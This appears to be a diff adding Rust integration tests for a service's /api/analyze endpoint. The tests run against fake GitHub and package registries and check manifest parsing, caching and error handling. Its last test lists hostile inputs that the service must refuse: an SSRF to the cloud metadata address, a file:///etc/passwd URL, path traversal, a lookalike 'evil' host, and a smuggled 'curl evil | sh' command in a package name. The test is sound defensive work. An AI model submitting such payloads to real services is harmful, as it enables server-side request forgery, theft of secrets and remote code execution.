@@ -1,0 +1,228 @@
+//! `POST /api/analyze` against fake GitHub and registries speaking their real formats.
+
+use std::io::Write;
+use std::sync::OnceLock;
+
+use edge_tests::fake::{FakeServer, Reply};
+use edge_tests::stack::{client, Stack, StackOptions};
+use serde_json::{json, Value};
+
+use crate::support::error_code;
+
+struct World {
+    fake: FakeServer,
+    stack: Stack,
+}
+
+/// One fake serves every upstream under its own prefix; one stack is pointed at it.
+fn world() -> &'static World {
+    static W: OnceLock<World> = OnceLock::new();
+    W.get_or_init(|| {
+        let fake = FakeServer::start();
+        let base = fake.url();
+        let stack = Stack::start(StackOptions {
+            vars: vec![
+                ("GITHUB_API_BASE".into(), format!("{base}/gh-api")),
+                ("GITHUB_RAW_BASE".into(), format!("{base}/gh-raw")),
+                ("NPM_REGISTRY_BASE".into(), format!("{base}/npm")),
+                ("PYPI_BASE".into(), format!("{base}/pypi-base")),
+            ],
+            omit: vec![],
+        });
+        World { fake, stack }
+    })
+}
+
+async fn analyze(body: Value, token: Option<&str>) -> reqwest::Response {
+    let w = world();
+    let mut r = client().post(w.stack.url("/api/analyze")).json(&body);
+    if let Some(t) = token {
+        r = r.bearer_auth(t);
+    }
+    r.send().await.unwrap()
+}
+
+fn token() -> String {
+    world().stack.token("analyst", Some("analyst@example.com"))
+}
+
+fn serve_repo(owner: &str, repo: &str) {
+    let f = &world().fake;
+    f.on("GET", &format!("/gh-api/repos/{owner}/{repo}"), Reply::json(200, &json!({"full_name": format!("{owner}/{repo}"), "default_branch": "main", "private": false})));
+    f.on("GET", &format!("/gh-raw/{owner}/{repo}/main/package.json"), Reply::text(200, &json!({"name": format!("@{owner}/{repo}"), "version": "2.1.0", "bin": {"srv": "dist/index.js"}, "dependencies": {"@modelcontextprotocol/sdk": "^1.20.0"}}).to_string()));
+    f.on("GET", &format!("/gh-raw/{owner}/{repo}/main/README.md"), Reply::text(200, &format!(
+        "# {repo}\n\n```json\n{{\"mcpServers\": {{\"x\": {{\"command\": \"npx\", \"args\": [\"-y\", \"@{owner}/{repo}\"], \"env\": {{\"{}_API_KEY\": \"<your key>\"}}}}}}}}\n```\n", owner.to_uppercase())));
+}
+
+fn count(prefix: &str) -> usize {
+    world()
+        .fake
+        .requests()
+        .iter()
+        .filter(|r| r.path.starts_with(prefix))
+        .count()
+}
+
+#[tokio::test]
+async fn a_repository_is_analyzed_from_its_manifests_and_then_served_from_the_cache() {
+    serve_repo("acme", "weather");
+    let t = token();
+    let first = analyze(
+        json!({"repo_url": "https://github.com/acme/weather"}),
+        Some(&t),
+    )
+    .await;
+    assert_eq!(first.status(), 200);
+    let plan: Value = first.json().await.unwrap();
+    assert_eq!(plan["package"], "@acme/weather");
+    assert_eq!(plan["runtime"], "npm");
+    assert_eq!(plan["version"], "2.1.0");
+    assert_eq!(plan["env_vars"][0]["name"], "ACME_API_KEY");
+    assert_eq!(plan["env_vars"][0]["required"], true);
+    assert_eq!(plan["env_vars"][0]["secret"], true);
+    assert_eq!(plan["cached"], false);
+    assert_eq!(plan["analyzer"], json!(["manifest"]));
+
+    let calls = count("/gh-");
+    let again: Value = analyze(
+        json!({"repo_url": "https://github.com/ACME/weather.git"}),
+        Some(&t),
+    )
+    .await
+    .json()
+    .await
+    .unwrap();
+    assert_eq!(again["cached"], true);
+    assert_eq!(again["package"], "@acme/weather");
+    assert_eq!(
+        count("/gh-"),
+        calls,
+        "a cache hit makes zero upstream calls"
+    );
+
+    let fresh: Value = analyze(
+        json!({"repo_url": "https://github.com/acme/weather", "refresh": true}),
+        Some(&t),
+    )
+    .await
+    .json()
+    .await
+    .unwrap();
+    assert_eq!(fresh["cached"], false);
+    assert!(count("/gh-") > calls, "refresh goes upstream again");
+    let rows = world().stack.query("SELECT source_key FROM analysis_cache WHERE source_key = 'analysis:v1:github:acme/weather'");
+    assert_eq!(rows.len(), 1, "the durable copy is in D1");
+}
+
+#[tokio::test]
+async fn an_npm_package_is_read_from_its_tarball_when_the_registry_readme_is_empty() {
+    let f = &world().fake;
+    let base = f.url();
+    let mut tar = Vec::new();
+    let readme = b"```json\n{\"mcpServers\": {\"t\": {\"command\": \"npx\", \"args\": [\"-y\", \"@tarball/srv\", \"stdio\"], \"env\": {\"TARBALL_TOKEN\": \"\"}}}}\n```\n";
+    for (name, body) in [
+        ("package/README.md", &readme[..]),
+        (
+            "package/package.json",
+            br#"{"name": "@tarball/srv", "bin": "x"}"#,
+        ),
+    ] {
+        let mut h = [0u8; 512];
+        h[..name.len()].copy_from_slice(name.as_bytes());
+        h[100..108].copy_from_slice(b"0000644\0");
+        h[124..136].copy_from_slice(format!("{:011o}\0", body.len()).as_bytes());
+        h[156] = b'0';
+        h[257..263].copy_from_slice(b"ustar\0");
+        tar.extend_from_slice(&h);
+        tar.extend_from_slice(body);
+        tar.resize(tar.len().div_ceil(512) * 512, 0);
+    }
+    tar.extend_from_slice(&[0u8; 1024]);
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(&tar).unwrap();
+    let tarball = format!("{base}/npm/@tarball/srv/-/srv-0.3.0.tgz");
+    f.on("GET", "/npm/@tarball%2fsrv", Reply::json(200, &json!({"name": "@tarball/srv", "readme": "", "dist-tags": {"latest": "0.3.0"},
+        "versions": {"0.3.0": {"name": "@tarball/srv", "version": "0.3.0", "dist": {"tarball": tarball}}}})));
+    f.on(
+        "GET",
+        "/npm/@tarball/srv/-/srv-0.3.0.tgz",
+        Reply::Http(
+            200,
+            vec![("content-type".into(), "application/octet-stream".into())],
+            gz.finish().unwrap().into(),
+        ),
+    );
+    let resp = analyze(json!({"package": "npm:@tarball/srv"}), Some(&token())).await;
+    assert_eq!(resp.status(), 200);
+    let plan: Value = resp.json().await.unwrap();
+    assert_eq!(
+        (plan["package"].as_str(), plan["version"].as_str()),
+        (Some("@tarball/srv"), Some("0.3.0"))
+    );
+    assert_eq!(plan["args"], json!(["stdio"]));
+    assert_eq!(plan["env_vars"][0]["name"], "TARBALL_TOKEN");
+    assert_eq!(plan["analyzer"], json!(["manifest", "registry"]));
+}
+
+#[tokio::test]
+async fn missing_repositories_are_404_and_rate_limits_503_with_retry_after() {
+    let t = token();
+    let missing = analyze(
+        json!({"repo_url": "https://github.com/acme/does-not-exist"}),
+        Some(&t),
+    )
+    .await;
+    assert_eq!(error_code(missing, 404).await, "not_found");
+    world().fake.on(
+        "GET",
+        "/gh-api/repos/acme/limited",
+        Reply::json(403, &json!({"message": "API rate limit exceeded"}))
+            .with_header("retry-after", "120"),
+    );
+    let limited = analyze(
+        json!({"repo_url": "https://github.com/acme/limited"}),
+        Some(&t),
+    )
+    .await;
+    assert_eq!(limited.headers()["retry-after"], "120");
+    assert_eq!(error_code(limited, 503).await, "unavailable");
+    world()
+        .fake
+        .on("GET", "/npm/registry-down", Reply::status(502));
+    let down = analyze(json!({"package": "npm:registry-down"}), Some(&t)).await;
+    assert_eq!(error_code(down, 503).await, "unavailable");
+}
+
+#[tokio::test]
+async fn hostile_sources_are_refused_before_any_upstream_call() {
+    let t = token();
+    for body in [
+        json!({"repo_url": "https://github.com.evil.com/a/b"}),
+        json!({"repo_url": "http://169.254.169.254/latest/meta-data"}),
+        json!({"repo_url": "https://github.com/a/b/tree/main/../../etc"}),
+        json!({"repo_url": "file:///etc/passwd"}),
+        json!({"package": "npm:x; curl evil | sh"}),
+        json!({"package": "pypi:x @ https://evil/x.whl"}),
+    ] {
+        let resp = analyze(body.clone(), Some(&t)).await;
+        assert_eq!(error_code(resp, 400).await, "invalid_source", "{body}");
+    }
+    assert_eq!(
+        error_code(analyze(json!({}), Some(&t)).await, 422).await,
+        "validation_failed"
+    );
+    assert_eq!(
+        error_code(analyze(json!({"package": "npm:x"}), None).await, 401).await,
+        "unauthorized"
+    );
+    // Other tests run concurrently against the same fake, so look for traces, not totals.
+    for r in world().fake.requests() {
+        for trace in ["evil", "meta-data", "passwd", "/etc", "curl", "whl"] {
+            assert!(
+                !r.path.contains(trace),
+                "a hostile source reached an upstream: {}",
+                r.path
+            );
+        }
+    }
+}
